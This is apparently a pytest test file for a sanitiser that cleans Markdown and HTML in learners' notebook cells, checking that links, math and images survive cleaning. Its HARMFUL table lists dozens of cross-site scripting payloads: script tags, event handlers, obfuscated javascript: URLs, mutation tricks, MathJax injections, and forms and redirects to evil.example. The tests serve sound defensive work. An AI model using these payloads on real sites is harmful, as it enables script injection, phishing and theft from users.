"""What is taken out of force in a learner's text, and what stays as it was written."""

import re
from collections.abc import Callable
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from nbconvert.filters.markdown_mistune import IPythonRenderer, MarkdownWithMath

from cellcheck.running import cleaning
from cellcheck.running.cleaning import as_typed, clean, serialised

PNG = {"plot.png": {"image/png": "iVBORw0KGgo="}}

PLAIN = {
    "prose": "The result is **bold**, _slanted_, `code`, ~~gone~~.",
    "a list": "- one\n- two\n  1. deeper\n\n> quoted",
    "a table": "| a | b |\n|:-:|--:|\n| 1 | 2 |",
    "math": "$a < b \\le c$, $a<b$ and\n\n$$\\sum_{i<n} \\frac{x_i}{\\sqrt{d}}$$",
    "an environment": "\\begin{align} a &< b \\\\ c &= d \\end{align}",
    "code": "```python\nif a < b:\n\n\n    print('<= 3')\n```",
    "less than": "a < b, c <= d, x<5, and 3 > 2 & more",
    "quotes": 'It\'s "fine"; \\textstyle is harmless.',
}

REWRITTEN = {
    "a link": (
        "[the paper](https://arxiv.org/abs/1706.03762)",
        '<p><a href="https://arxiv.org/abs/1706.03762">the paper</a></p>',
    ),
    "an address": ("<https://pytorch.org>", '<p><a href="https://pytorch.org">https://pytorch.org</a></p>'),
    "a heading": ("# Why\n## How <= that", "<h1>Why</h1>\n<h2>How &lt;= that</h2>"),
    "an attachment": (
        "![a plot](attachment:plot.png)",
        '<p><img src="data:image/png;base64,iVBORw0KGgo=" alt="a plot"></p>',
    ),
    "a file beside it": ("![plot](plots/loss.png)", '<p><img src="plots/loss.png" alt="plot"></p>'),
    "some HTML": ("H<sub>2</sub>O <BR/> <b>bold</b>", "<p>H<sub>2</sub>O <br> <b>bold</b></p>"),
    "what unfolds": (
        "<details><summary>more</summary>\n\n$a < b$ & _c_\n\n</details>",
        "<details><summary>more</summary>&#10;\n<p>$a &lt; b$ &amp; <em>c</em></p>\n</details>",
    ),
    "a task": (
        "- [x] done",
        '<ul>\n<li><input type="checkbox" disabled="" checked="">done</li>\n</ul>',
    ),
    "code with tags": (
        "`<script>` and\n\n```\n<b>\n\n\n</b>\n```",
        "<p><code>&lt;script&gt;</code> and</p>\n<pre><code>&lt;b&gt;&#10;&#10;\n&lt;/b&gt;\n</code></pre>",
    ),
    "tags that nobody knows": ("a List<int> of <float>", "<p>a List&lt;int&gt; of &lt;float&gt;</p>"),
    "a picture from elsewhere": (
        "See ![x](https://example.org/x.png)",
        '<p>See <a href="https://example.org/x.png">x</a></p>',
    ),
    "a picture that is not there": ("See ![the plot](attachment:gone.png)", "<p>See the plot</p>"),
    "a script": (
        "**Why?** $a<b$ <script>alert(1)</script>",
        "<p><strong>Why?</strong> $a&lt;b$ &lt;script&gt;alert(1)&lt;/script&gt;</p>",
    ),
    "a formula that links": ("$\\href{x}{y}$ in C:\\data", "<p>$\N{SET MINUS}href{x}{y}$ in C:\N{SET MINUS}data</p>"),
    "code is no formula": ("`\\href` [a](#b)", '<p><code>\\href</code> <a href="#b">a</a></p>'),
    "the end of the cell": ("</div></div>x", "x"),
}

HARMFUL = {
    "a script": "**Why?** <script>alert(1)</script>",
    "a script in capitals": "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "a handler": "<img src=x onerror=alert(1)>",
    "a handler on what is allowed": '<b onmouseover="alert(1)">x</b>',
    "svg": "<svg><script>alert(1)</script></svg>",
    "svg that loads": "<svg onload=alert(1)>",
    "mathml": "<math><mtext></mtext><script>alert(1)</script></math>",
    "a frame": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "an object": "<object data=x.html></object><embed src=x.html>",
    "a form": '<form action=https://evil.example><input type=submit value="Save"></form>',
    "a button": "<button onclick=alert(1)>x</button>",
    "a base": "<base href=https://evil.example>",
    "a refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "a style sheet": "<style>* { display: none }</style>",
    "a style": '<div style="position:fixed;inset:0">x</div>',
    "a link sheet": "<link rel=stylesheet href=https://evil.example/x.css>",
    "a script address": "[x](javascript:alert(1))",
    "a script address in HTML": '<a href="javascript:alert(1)">x</a>',
    "letters for it": '<a href="&#106;ava&Tab;script:alert(1)">x</a>',
    "letters in Markdown": "[x](&#x6A;avascript:alert(1))",
    "a tab in it": '<a href="java\tscript:alert(1)">x</a>',
    "other schemes": "[x](vbscript:x) [y](data:text/html,<script>alert(1)</script>)",
    "an automatic link": "<javascript:alert(1)>",
    "a reference": "[x]\n\n[x]: javascript:alert(1)",
    "a picture from elsewhere": "![x](https://evil.example/seen.png)",
    "a picture of another kind": "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "a path out": "![x](../../logout)",
    "an attachment that is not there": "![x](attachment:gone.png)",
    "math that links": "$\\href{javascript:alert(1)}{x}$",
    "math with styles": "$$\\style{position:fixed}{x} \\class{btn}{y} \\cssId{z}{w}$$",
    "a diagram": '```mermaid\ngraph TD\nA["<img src=x onerror=alert(1)>"]\n```',
    "a comment": "<!-- <script> --> x <![CDATA[ x ]]> <?php x ?>",
    "a template": "<template><script>alert(1)</script></template><noscript><p title='</noscript><img src=x>'>",
    "a title that breaks out": "![x](attachment:plot.png \"a' onerror='alert(1)\") <script>1</script>",
    "a class of the page's": '<div class="modal fade in">Enter your password</div>',
    "the end of the cell": "</div></div></body><h1>x</h1>",
    "fences": "````\n```\n<script>alert(1)</script>\n````\n<script>alert(1)</script>\n~~~",
    "an equals sign before the quote": '<div><img alt=="x onerror=alert(1) src=x"></div>',
    "one that opens": '<details open title=="x ontoggle=alert(1) ">',
    "a handler after a slash": "<img/src=x/onerror=alert(1)>",
    "a tag that never ends": "<img src=x onerror=alert(1) ",
    "a null": "<scr\0ipt>alert(1)</scr\0ipt>",
    "names of the page's": '<div id="comment" class="hide">x</div>',
    "a heading's name": "# next",
    "math that loads": "$\\bbox[background:url(//evil.example/x)]{x}$",
    "math with letters by number": "$\\unicode[evil]{65}$ and $\\require{html}$",
    "math with a border": "$\\fcolorbox{red;background:url(//evil.example)}{red}{x}$",
    "math in letters": "\\\\(\\hre&#102;{javascript:alert(1)}{x}\\\\)",
    "a heading for scripts": "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "a raw text in another": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "a style in svg": "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "a field": "<input type=password name=password autofocus onfocus=alert(1)>",
    "a picture as wide as the page": '<img src="plots/x.png" width=99999 height=99999>',
    "a background": '<table background="//evil.example/x"><td background="//evil.example/y">1',
    "a set of pictures": '<img srcset="//evil.example/x 1x" src="plots/x.png">',
}


TAGS = set(cleaning._TAGS)
HANDLERS = re.compile(r"on|style|srcset|background|xlink|form|id$|name$")
READERS: dict[str, Callable[[str], str]] = {
    "nbconvert": lambda text: MarkdownWithMath(renderer=IPythonRenderer(escape=False, attachments=PNG)).render(text),
    "CommonMark": MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).render,
}


class Tags(HTMLParser):
    """The tags as Python's own parser reads them, which is not as a browser does."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_comment(self, data: str) -> None:
        self.tags.append(("!", {}))

    handle_decl = handle_pi = unknown_decl = handle_comment


def insist_on_harmless(safe: str) -> None:
    """Every reader of Markdown, and a parser unlike a browser's, finds nothing but what a text needs."""
    for read in READERS.values():
        html = read(safe)
        for tag, attributes in Tags(html).tags:
            assert tag in TAGS
            if safe.startswith("<div>"):
                assert not [name for name in attributes if HANDLERS.match(name) and name != "style"]
            assert re.fullmatch(r"text-align: ?(left|right|center)", attributes.get("style") or "text-align:left")
            assert not re.match(
                r"\s*(javascript|vbscript|data:(?!image/(png|jpeg|gif|webp);))", attributes.get("href") or ""
            )
            assert (attributes.get("src") or "plots/").startswith(("data:image/", "plots/", "x"))
    if safe.startswith("<div>"):
        first, *others = ([*Tags(read(safe)).tags] for read in READERS.values())
        assert all(other == first for other in others)
        assert serialised(safe) == safe.replace("&#10;", "\n")


@pytest.mark.parametrize("name", PLAIN)
def test_plain_words_stay_as_they_were_written(name: str) -> None:
    assert clean(PLAIN[name], PNG) == PLAIN[name]


@pytest.mark.parametrize("name", REWRITTEN)
def test_html_and_links_are_written_down_anew(name: str) -> None:
    source, html = REWRITTEN[name]
    assert clean(source, PNG) == f"<div>{html}</div>"
    insist_on_harmless(clean(source, PNG))


@pytest.mark.parametrize("name", HARMFUL)
def test_what_is_harmful_is_taken_out_of_force(name: str) -> None:
    safe = clean(HARMFUL[name], PNG)
    assert safe != HARMFUL[name]
    insist_on_harmless(safe)
    rendered = READERS["nbconvert"](safe)
    assert not cleaning._TYPESETTING.search(rendered)


PIECES = [
    *(piece for text in [*HARMFUL.values(), *PLAIN.values()] for piece in re.findall(r"<|>|[\w-]+|\s+|.", text)),
    *("<img ", "<details open ", "<svg>", "<style>", "<!--", "-->", "<![CDATA[", "]]>", "</p>", "</div>", "<table>"),
    *("<a ", "onerror=alert(1) ", "ontoggle=alert(1) ", '=="x ', "src=x ", "href=javascript:alert(1) ", "\n\n"),
    *("```", "~~~", "    ", "\\href{", "\\bbox[", "$", "$$", "&lt;", "&#60;", "\0", "\f", "\x85", "\u2028", "\r"),
    *("`", "\\", "[", "](", "\n- "),
]


@given(st.lists(st.sampled_from(PIECES), max_size=30).map("".join))
@settings(max_examples=300, deadline=None)
def test_whatever_is_typed_every_reader_agrees_that_it_is_harmless(text: str) -> None:
    insist_on_harmless(clean(text, PNG))


def test_as_typed_nothing_in_it_can_end_the_block() -> None:
    for source in ("```", "````\n~~~\n```", "`" * 100 + "\n<script>", "", "    ```\n\t```"):
        lines = as_typed(source).splitlines()
        fence = lines[-1]
        assert lines[0] == fence + "text"
        assert not [line for line in lines[1:-1] if line.strip().startswith(fence)]
